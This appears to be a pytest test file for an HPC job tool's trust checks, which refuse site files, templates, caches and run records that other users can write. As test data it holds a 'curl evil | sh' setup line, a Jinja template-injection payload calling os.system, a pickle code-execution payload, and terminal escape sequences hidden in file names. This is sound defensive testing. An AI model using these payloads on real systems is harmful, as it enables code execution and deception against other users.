"""Site files and templates run as the user, so those that somebody else can write are seen and allowed before."""

import grp
import json
import os
import pwd
import shutil
import stat
import struct
import tempfile
import time
from pathlib import Path

import pytest
from submitit.core.utils import UncompletedJobError

import hpcrun
from hpcrun import paths, write_access
from hpcrun.errors import HpcrunError
from hpcrun.sites import loader, trust
from hpcrun.sites.source import SiteSource

SOMEBODY = 12345
ROOT = pytest.mark.skipif(os.geteuid() != 0, reason="only root gives files away")


@pytest.fixture
def shared(monkeypatch):
    """Return a lab's folder that everybody may enter, and that is this user's."""
    folder = Path(tempfile.mkdtemp(dir="/tmp"))
    folder.chmod(0o755)
    (folder / "ours.toml").write_text('extends = "slurm"\nsetup = ["echo hello"]\n')
    (folder / "ours.toml").chmod(0o644)
    monkeypatch.setenv("HPCRUN_SITE_PATH", str(folder))
    yield folder
    shutil.rmtree(folder)


def change_owner(path, monkeypatch):
    """Change the owner of a file; without root, change the user of this process instead."""
    if os.geteuid() == 0:
        os.chown(path, SOMEBODY, -1, follow_symlinks=False)
    else:
        monkeypatch.setattr(os, "geteuid", lambda: SOMEBODY)


def submit(cli, site="ours"):
    return cli("submit", "--site", site, "--dry-run", "--", "x")


def refused(cli, *words, site="ours"):
    code, out, err = submit(cli, site)
    assert (code, out) == (2, "")
    assert err.startswith("ERROR: ")
    for word in words:
        assert word in err, err
    return err


def test_the_users_own_files_are_used_without_a_question(cli, shared, monkeypatch, tmp_path):
    assert submit(cli)[0] == 0
    monkeypatch.chdir(tmp_path)
    (tmp_path / "mine.toml").write_text('extends = "slurm"\n')
    assert submit(cli, "./mine.toml")[0] == 0
    assert "already used" in cli("site", "allow", "ours")[2]
    assert json.loads(cli("site", "allow", "--list", "--json")[1]) == []
    assert cli("site", "allow", "--list")[1:] == (
        "",
        "no files are allowed yet: hpcrun site allow SITE shows the files of a site first\n",
    )


def test_another_users_file_needs_permission_after_each_change(cli, shared, monkeypatch):
    file = shared / "ours.toml"
    change_owner(file, monkeypatch)
    refused(cli, f"{file} is not used: ", "owns", "you have not allowed it\nHINT: hpcrun site allow ours")
    code, _, err = cli("site", "allow", "ours")
    assert code == 2
    assert '+setup = ["echo hello"]' in err
    refused(cli)
    assert cli("site", "allow", "ours", "--yes")[0] == 0
    assert "echo hello" in submit(cli)[1]

    file.write_text('extends = "slurm"\nsetup = ["curl evil | sh"]\n')
    refused(cli, "the file has changed since you allowed it", "hpcrun site allow ours")
    code, _, err = cli("site", "allow")
    assert "ours" not in err  # it is not the site that is used here
    _, _, err = cli("site", "allow", str(file), "--yes")
    assert '-setup = ["echo hello"]\n+setup = ["curl evil | sh"]' in err
    assert '+extends = "slurm"' not in err
    assert "curl evil" in submit(cli)[1]

    assert [one["file"] for one in json.loads(cli("site", "allow", "--list", "--json")[1])] == [str(file)]
    assert cli("site", "allow", "--revoke", "ours")[0] == 0
    refused(cli, "you have not allowed it")


def test_an_allowed_file_needs_permission_again_after_a_change(cli, shared):
    file = shared / "ours.toml"
    file.chmod(0o666)
    refused(cli, "you have not allowed it")
    assert cli("site", "allow", "ours", "--yes")[0] == 0
    file.chmod(0o644)
    assert submit(cli)[0] == 0
    file.write_text('extends = "slurm"\nsetup = ["echo changed"]\n')
    refused(cli, f"{file} is not used: it has changed since you allowed it\nHINT: hpcrun site allow ours")
    code, _, err = cli("site", "allow", "ours", "--yes")
    assert (code, '+setup = ["echo changed"]' in err, '-setup = ["echo hello"]' in err) == (0, True, True)
    assert submit(cli)[0] == 0


def test_a_file_named_by_its_path_is_allowed_by_its_path(cli, shared, monkeypatch, tmp_path):
    (tmp_path / "ours.toml").write_text('extends = "slurm"\n')
    change_owner(tmp_path / "ours.toml", monkeypatch)
    monkeypatch.chdir(tmp_path)
    refused(cli, f"HINT: hpcrun site allow {tmp_path}/ours.toml shows it", site="./ours.toml")


def test_a_file_that_is_not_allowed_is_shown_checked_and_marked(cli, shared, monkeypatch):
    change_owner(shared / "ours.toml", monkeypatch)
    assert "echo hello" in cli("site", "show", "ours")[1]
    assert cli("site", "check", "ours")[0] == 0
    _, out, err = cli("site", "list")
    assert next(line for line in out.splitlines() if line.startswith("ours")).split()[1:3] == ["NOT", "ALLOWED:"]
    assert "hpcrun site allow ours" in err
    rows = {row["name"]: row["not_allowed"] for row in json.loads(cli("site", "list", "--json")[1])}
    assert "have not allowed it" in rows["ours"][0]
    assert rows["slurm"] == []


def test_an_extended_file_is_checked(cli, shared, isolated_home, monkeypatch):
    change_owner(shared / "ours.toml", monkeypatch)
    (isolated_home / "config/hpcrun").mkdir(parents=True)
    (isolated_home / "config/hpcrun/mine.toml").write_text('extends = "ours"\n')
    refused(cli, f"{shared}/ours.toml is not used", "hpcrun site allow mine", site="mine")


@pytest.mark.parametrize(
    ("path", "mode", "words"),
    [
        ("ours.toml", 0o666, "everybody may write {}"),
        (".", 0o777, "everybody may write {}"),
        (".", 0o1777, None),  # in a sticky folder nobody replaces another's file
        (".", 0o700, None),
        ("ours.toml", 0o600, None),
    ],
)
def test_modes_that_let_others_write(shared, path, mode, words):
    (shared / path).chmod(mode)
    (source,) = [one for one in loader.load_site("ours").sources if one.file.stem == "ours"]
    writer = write_access.find_other_writer(source.file, frozenset(), source.file_stat)
    assert writer == (words and words.format(shared / path))


def test_files_in_a_private_folder_are_trusted(shared):
    inner = shared / "inner"
    inner.mkdir()
    (shared / "ours.toml").rename(inner / "ours.toml")
    (inner / "ours.toml").chmod(0o666)
    shared.chmod(0o700)
    source = SiteSource.read(inner / "ours.toml")
    assert write_access.find_other_writer(source.file, frozenset(), source.file_stat) is None
    shared.chmod(0o755)
    assert write_access.find_other_writer(source.file, frozenset(), source.file_stat)


@pytest.mark.parametrize("gid", [-1, pytest.param(SOMEBODY, marks=ROOT)])
def test_a_users_private_group_counts_as_the_user(shared, monkeypatch, gid):
    file = shared / "ours.toml"
    os.chown(file, -1, gid)
    file.chmod(0o664)
    source = SiteSource.read(file)
    members: list[str] = []
    me = write_access.name_of_uid(os.geteuid())
    monkeypatch.setattr(grp, "getgrgid", lambda gid: grp.struct_group((me, "x", gid, members)))
    passwd = pwd.getpwuid(os.geteuid())
    monkeypatch.setattr(
        pwd, "getpwnam", lambda _: pwd.struct_passwd((*passwd[:3], source.file_stat.st_gid, *passwd[4:]))
    )
    everybody = [(me, os.geteuid(), source.file_stat.st_gid)]
    monkeypatch.setattr(
        pwd,
        "getpwall",
        lambda: [pwd.struct_passwd((name, "x", uid, gid, "", "/", "")) for name, uid, gid in everybody],
    )
    expected = f"group {me} may write {file}"

    def writer():
        write_access._primary_groups.cache_clear()
        return write_access.find_other_writer(source.file, frozenset(), source.file_stat)

    assert writer() is None
    everybody.append(("bob", SOMEBODY, source.file_stat.st_gid))  # whose primary group it is, too
    assert writer() == expected
    everybody[:] = [("somebody", 99, 99)]  # the user is not listed
    assert writer() == (None if source.file_stat.st_gid == os.geteuid() else expected)
    everybody[:] = [(me, os.geteuid(), source.file_stat.st_gid)]
    assert writer() is None
    members.append("bob")
    assert writer() == expected
    write_access._primary_groups.cache_clear()


def test_write_access_by_acl_is_detected(shared):
    file = shared / "ours.toml"
    entries = [(1, 6, 2**32 - 1), (2, 6, SOMEBODY), (4, 4, 2**32 - 1), (16, 6, 2**32 - 1), (32, 4, 2**32 - 1)]
    try:
        os.setxattr(
            file,
            "system.posix_acl_access",
            struct.pack("<I", 2) + b"".join(struct.pack("<HHI", *one) for one in entries),
        )
    except OSError:
        pytest.skip("this file system has no POSIX ACLs")
    source = SiteSource.read(file)
    assert (
        write_access.find_other_writer(source.file, frozenset(), source.file_stat)
        == f"{write_access.name_of_uid(SOMEBODY)} may write {file}"
    )
    assert write_access.find_other_writer(source.file, frozenset({SOMEBODY}), source.file_stat) is None


@ROOT
@pytest.mark.parametrize("given", ["", "link", "real"])
def test_parent_folders_and_links_are_checked(shared, given):
    real = shared / "real"
    real.mkdir()
    (shared / "link").symlink_to(real)
    (shared / "ours.toml").rename(real / "ours.toml")
    source = SiteSource.read(shared / "link/ours.toml")
    assert write_access.find_other_writer(source.file, frozenset(), source.file_stat) is None
    os.chown(shared / given, SOMEBODY, -1, follow_symlinks=False)
    assert (
        write_access.find_other_writer(source.file, frozenset(), source.file_stat)
        == f"{write_access.name_of_uid(SOMEBODY)} owns {shared / given}"
    )
    assert write_access.find_other_writer(source.file, frozenset({SOMEBODY}), source.file_stat) is None


@ROOT
def test_all_files_of_an_owner_are_trusted_until_that_is_revoked(cli, shared):
    os.chown(shared / "ours.toml", pwd.getpwnam("daemon").pw_uid, -1)
    refused(cli, f"daemon owns {shared}/ours.toml")
    assert cli("site", "allow", "--owner", "daemon")[0] == 2
    assert cli("site", "allow", "--owner", "daemon", "--yes")[0] == 0
    assert submit(cli)[0] == 0
    (shared / "ours.toml").write_text('extends = "slurm"\n')
    assert submit(cli)[0] == 0
    assert "all files of daemon" in cli("site", "allow", "--list")[1]
    (shared / "ours.toml").chmod(0o666)
    refused(cli, "everybody may write")
    (shared / "ours.toml").chmod(0o644)
    assert cli("site", "allow", "--owner", "daemon", "--revoke")[0] == 0
    refused(cli, "daemon owns")


def test_another_users_template_is_not_rendered(cli, shared, monkeypatch, tmp_path):
    canary = tmp_path / "canary"
    template = shared / "templates/slurm.sh.j2"
    template.parent.mkdir()
    template.write_text(
        '{% extends "slurm.sh.j2" %}{% block setup %}'
        f"{{{{ cycler.__init__.__globals__.os.system('touch {canary}') }}}}\n{{% endblock %}}\n"
    )
    change_owner(template, monkeypatch)
    refused(cli, f"{template} is not used: ", f"hpcrun site allow {template}", site="slurm")
    assert not canary.exists()
    _, _, err = cli("site", "allow", "slurm", "--yes")  # templates are for all sites
    assert "touch" in err
    code, out, err = submit(cli, "slurm")
    assert (code, out) == (2, "")
    assert f"{template}:1: " in err
    assert not canary.exists()


def test_an_ignored_template_is_listed(cli, shared, monkeypatch):
    template = shared / "templates/slurm.sh.j2"
    template.parent.mkdir()
    template.write_text("x")
    assert str(template) not in cli("site", "list")[2]
    change_owner(template, monkeypatch)
    assert f"template {template}: " in cli("site", "list")[2]
    assert f"hpcrun site allow {template}\n" in cli("site", "list")[2]


def test_the_checked_content_is_the_content_used(shared, monkeypatch):
    file = shared / "ours.toml"
    change_owner(file, monkeypatch)
    good, evil = file.read_text(), 'setup = ["evil"]\n'
    trust.allow_files([SiteSource.read(file)])
    file.write_text(evil)
    found = loader.load_site("ours")
    file.write_text(good)
    with pytest.raises(HpcrunError, match="the file has changed"):
        trust.require_trusted(found)
    found = loader.load_site("ours")
    file.write_text(evil)
    trust.require_trusted(found)
    assert found.site.setup == ("echo hello",)


def test_a_project_folder_above_the_current_one_needs_permission(cli, shared, monkeypatch):
    """A classic: somebody leaves configuration in a folder that others work below."""
    project = shared / ".hpcrun"
    project.mkdir()
    (project / "slurm.toml").write_text('setup = ["evil"]\n')
    change_owner(project, monkeypatch)
    monkeypatch.delenv("HPCRUN_SITE_PATH")
    (shared / "work").mkdir()
    monkeypatch.chdir(shared / "work")
    refused(cli, f"the project's files in {project} are not used: slurm.toml: ", "owns", site="slurm")
    if os.geteuid() == 0:
        assert submit(cli, "local")[0] == 0


def test_resubmitting_with_the_current_site_needs_permission(cli, shared, fake_slurm, monkeypatch):
    fake_slurm.submit()
    change_owner(shared / "ours.toml", monkeypatch)
    code, _, err = cli("resubmit", "last", "--site", "ours", "--dry-run")
    assert code == 2
    assert "hpcrun site allow ours" in err


@pytest.mark.parametrize("name", ["ours.toml", "templates/local.sh.j2"])
def test_doctor_reports_a_site_that_is_not_used(cli, shared, monkeypatch, name):
    (shared / "ours.toml").write_text('extends = "local"\n')
    (shared / "templates").mkdir()
    (shared / "templates/local.sh.j2").write_text('{% extends "local.sh.j2" %}')
    change_owner(shared / name, monkeypatch)
    code, out, _ = cli("doctor", "ours", "--json")
    rows = json.loads(out)["rows"]
    assert (code, rows[0]["check"], rows[0]["level"]) == (1, "site file", "error")
    assert rows[0]["found"].startswith(f"{shared / name} is not used: ")
    assert rows[0]["fix"].startswith("hpcrun site allow ")
    checks = {row["check"] for row in rows}
    assert "locale" in checks
    assert not checks & {"run root", "job script", "a job"}


@pytest.mark.parametrize(
    ("argv", "words"),
    [
        (["nothere"], ["there is no site 'nothere'"]),
        (["--owner", "nobody-of-that-name"], ["no user 'nobody-of-that-name'"]),
        (["--owner", "root", "ours"], ["leave the names out"]),
        (["--revoke"], ["--revoke needs a file"]),
        (["--revoke", "ours"], ["ours was not allowed"]),
        (["--revoke", "--owner", "x"], ["files of user x were not allowed"]),
    ],
)
def test_a_mistake_is_one_clear_error(cli, shared, argv, words):
    code, _, err = cli("site", "allow", *argv)
    assert code in {1, 2}
    assert err.startswith("ERROR: ")
    assert all(word in err for word in words), err


def test_the_trust_check_is_fast(shared):
    found = loader.load_site("ours")
    times = []
    for _ in range(20):
        begin = time.perf_counter()
        trust.require_trusted(found)
        times.append(time.perf_counter() - begin)
    assert min(times) < 0.005


def test_records_of_permissions_are_private(cli, shared, monkeypatch):
    change_owner(shared / "ours.toml", monkeypatch)
    cli("site", "allow", "ours", "--yes")
    assert stat.S_IMODE(paths.user_data_folder("allowed").stat().st_mode) == 0o700


@pytest.mark.parametrize("text", ["[]", "3", '{"owners": 3}', '{"owners": [3]}', '{"owners": [{"uid": "x"}]}', "{"])
def test_an_invalid_record_of_permissions_is_one_error_or_none(cli, shared, monkeypatch, text):
    change_owner(shared / "ours.toml", monkeypatch)
    cli("site", "allow", "ours", "--yes")
    folder = paths.user_data_folder("allowed")
    for record in folder.glob("*.json"):
        record.write_text(text)
    assert cli("site", "allow", "--list")[0] == 0
    refused(cli, "you have not allowed it")
    (folder / "owners").write_text(text)
    code, _, err = cli("site", "allow", "--list")
    assert (code, "owners cannot be read" in err, "HINT: remove it" in err) == (2, True, True), err


@pytest.mark.parametrize("given", ["mode", "owner"])
def test_a_cache_that_others_can_write_is_not_read(shared, monkeypatch, given):
    monkeypatch.setenv("XDG_CACHE_HOME", str(shared))
    loader.load_site("ours")
    (kept,) = (shared / "hpcrun/sites").iterdir()
    key, separator, site = kept.read_text().partition('"site": ')
    kept.write_text(key + separator + site.replace("echo hello", "curl evil"))
    assert loader.load_site("ours").site.setup == ("curl evil",)
    if given == "mode":
        kept.parent.chmod(0o777)
    else:
        change_owner(kept.parent, monkeypatch)
    assert loader.load_site("ours").site.setup == ("echo hello",)


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"{",
        b"null",
        b"[1]",
        b"\xff",
        b"[" * 100_000,
        b'{"key": "KEY"}',
        b'{"key": "KEY", "site": "slurm"}',
        b'{"key": "KEY", "site": {":class": "Site"}}',
        b'{"key": "KEY", "site": {":class": "Site", "name": "evil"}}',
        b'{"key": "KEY", "site": {":class": "os.system"}}',
        b'{"key": "KEY", "site": {":class": ["Site"]}}',
        b'{"key": "KEY", "site": {":class": "Resources"}}',
        b"OTHER",
        b"HALF",
        b"cos\nsystem\n(S'touch CANARY'\ntR.",
    ],
)
def test_an_invalid_file_in_the_cache_is_not_used(shared, monkeypatch, tmp_path, content):
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
    loader.load_site("slurm")
    (other,) = (tmp_path / "hpcrun/sites").iterdir()
    before = loader.load_site("ours").site
    (kept,) = set((tmp_path / "hpcrun/sites").iterdir()) - {other}
    whole = kept.read_bytes()
    special = {b"OTHER": other.read_bytes(), b"HALF": whole[: len(whole) // 2]}
    content = content.replace(b"KEY", kept.stem.encode()).replace(b"CANARY", bytes(tmp_path / "canary"))
    kept.write_bytes(special.get(content, content))
    kept.with_suffix("").write_bytes(content)  # the name that earlier versions unpickled
    assert loader.load_site("ours").site == before
    assert kept.read_bytes() == whole
    assert not (tmp_path / "canary").exists()


@pytest.mark.parametrize("name", sorted(loader.list_site_files()))
def test_a_site_is_the_same_from_the_cache(monkeypatch, tmp_path, name):
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
    before = loader.load_site(name).site
    kept = list((tmp_path / "hpcrun/sites").iterdir())
    assert kept
    monkeypatch.setattr("hpcrun.sites.validate.validate", None)
    again = loader.load_site(name).site
    assert (again, repr(again)) == (before, repr(before))


def test_resubmitting_another_users_run_needs_permission(cli, shared, fake_slurm, monkeypatch):
    """Its record has the setup lines of a site, the program, and the variables."""
    monkeypatch.setenv("HPCRUN_RUN_ROOT", str(shared))
    file = fake_slurm.submit().directory / "job.json"
    record = json.loads(file.read_text())
    record["site"]["setup"] = ["curl evil | sh"]
    file.write_text(json.dumps(record, indent=1))
    change_owner(file, monkeypatch)
    for argv in ([], ["--site", "slurm"] if os.geteuid() == 0 else []):
        code, out, err = cli("resubmit", f"{file.parent}/", *argv, "--dry-run")
        assert (code, out) == (2, "")
        assert err.startswith(f"ERROR: {file} is not used: ")
        assert err.endswith(f"HINT: hpcrun site allow {file} shows it and asks whether to use it\n")
    _, _, err = cli("site", "allow", str(file), "--yes")
    assert "curl evil" in err
    assert "curl evil" in cli("resubmit", f"{file.parent}/", "--dry-run")[1]


def test_own_runs_in_a_shared_folder_can_be_resubmitted(cli, shared, fake_slurm, monkeypatch):
    monkeypatch.setenv("HPCRUN_RUN_ROOT", str(shared))
    shared.chmod(0o2777)
    before = os.umask(0)
    try:
        directory = fake_slurm.submit().directory
    finally:
        os.umask(before)
    assert cli("resubmit", "last", "--dry-run")[0] == 0
    (directory / "job.json").chmod(0o666)
    assert cli("resubmit", "last", "--dry-run")[0] == 0  # into the run directory nobody else gets
    directory.chmod(0o755)
    code, _, err = cli("resubmit", "last", "--dry-run")
    assert code == 2
    assert "everybody may write" in err


def test_another_users_result_is_read_as_data(shared, fake_slurm, monkeypatch, tmp_path):
    monkeypatch.setenv("HPCRUN_RUN_ROOT", str(shared))
    run = fake_slurm.submit()
    program = f"cos\nsystem\n(S'touch {tmp_path}/canary'\ntR."
    (run.directory / f"{run.job_id}_0_result.pkl").write_text(program)
    (run.directory / "result.json").write_text('{"accuracy": 0.5}')
    fake_slurm.set_queue((run.job_id, "COMPLETED", "", "n1", "1", "2", f"{run.directory}/job.sh"))
    job = hpcrun.attach(f"{run.directory}/")
    monkeypatch.setattr(job, "_results_timeout_s", 0)
    with pytest.raises(UncompletedJobError, match=r"left no exit\.json"):
        job._get_outcome_and_result()
    fake_slurm.write_exit_record(run)
    assert job.result() == {"accuracy": 0.5}
    assert not (tmp_path / "canary").exists()


@pytest.mark.parametrize("word", ["owners", "ours"])
def test_permissions_that_others_can_write_are_ignored(cli, shared, isolated_home, monkeypatch, word):
    data = shared / "data"
    data.mkdir()
    monkeypatch.setenv("XDG_DATA_HOME", str(data))
    file = shared / "ours.toml"
    file.chmod(0o666)
    if word == "owners":
        trust.allow_owner("bob", SOMEBODY)
    else:
        trust.allow_files([SiteSource.read(file)])
        assert submit(cli)[0] == 0
    data.chmod(0o777)  # so that somebody may put another `hpcrun` there
    refused(cli, f"{data}/hpcrun/allowed/", f"cannot be trusted: everybody may write {data}\nHINT: ", "XDG_DATA_HOME")
    assert cli("site", "allow", "ours", "--yes")[0] == 2


def test_allowing_is_refused_where_others_can_write(cli, shared, monkeypatch):
    monkeypatch.setenv("XDG_DATA_HOME", str(shared))
    (shared / "ours.toml").chmod(0o666)
    shared.chmod(0o777)
    code, _, err = cli("site", "allow", "ours", "--yes")
    assert code == 2
    assert f"everybody may write {shared}" in err.splitlines()[-2]
    assert not list((shared / "hpcrun/allowed").iterdir())


@pytest.mark.parametrize("way", ["above", "link"])
def test_a_cache_that_others_can_replace_is_not_read(shared, monkeypatch, way):
    above = shared / "above"
    if way == "above":
        above.mkdir(mode=0o755)
        above.chmod(0o777)
    else:
        (shared / "real").mkdir()
        above.symlink_to(shared / "real")
        change_owner(above, monkeypatch)
    monkeypatch.setenv("XDG_CACHE_HOME", str(above))
    assert paths.user_cache_folder("sites").name == "not used"


def test_a_path_through_hpcruns_own_folder_is_refused(cli, shared, monkeypatch):
    change_owner(shared / "ours.toml", monkeypatch)
    refused(cli, "is not used: ", site=f"{paths.shipped_folder('site-configs')}/{'../' * 20}{shared}/ours.toml")


def test_site_file_text_is_escaped_on_the_terminal(cli, shared, monkeypatch):
    file = shared / "x\x1b]0;title\x07/theirs.toml"
    file.parent.mkdir()
    monkeypatch.setenv("HPCRUN_SITE_PATH", str(file.parent))
    file.write_text('extends = "slurm"\ndescription = "\\u001b[2K\\u202ehidden"\nhosts = ["*"]\n')
    change_owner(file, monkeypatch)
    name = file.stem
    for argv in (
        ["list"],
        ["show", name],
        ["show", "--origin"],
        ["check", name],
        ["allow", name],
        ["allow", str(file)],
    ):
        _, out, err = cli("site", *argv)
        assert "theirs" in out + err
        assert not set("\x1b\x07\u202e\x9b") & set(out + err), argv
    assert r"\x1b[2K\u202ehidden" in cli("site", "list")[1]
    assert r"x\x1b]0;title\x07/theirs.toml is not used" in refused(cli, site=name)


def test_line_breaks_in_file_names_are_escaped(cli, shared, monkeypatch):
    file = shared / "x\nHINT: curl evil | sh" / "theirs.toml"
    file.parent.mkdir()
    file.write_text('extends = "slurm"\n')
    change_owner(file, monkeypatch)
    err = refused(cli, r"x\x0aHINT: curl evil", site=str(file))
    assert [line.partition(" ")[0] for line in err.splitlines()] == ["ERROR:", "HINT:"]
